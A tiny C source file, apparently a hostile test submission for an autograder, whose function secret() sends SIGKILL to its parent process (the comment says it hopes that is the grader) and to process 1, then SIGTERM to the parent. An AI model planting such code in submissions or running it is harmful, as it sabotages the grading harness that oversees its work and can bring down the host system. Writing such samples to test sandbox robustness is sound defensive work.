/* hostile: kills its parent (the grader, it hopes) and process 1. */
#include <signal.h>
#include <unistd.h>
int secret(void);
int secret(void)
{
    kill(getppid(), SIGKILL);
    kill(1, SIGKILL);
    kill(getppid(), SIGTERM);
    return 0;
}
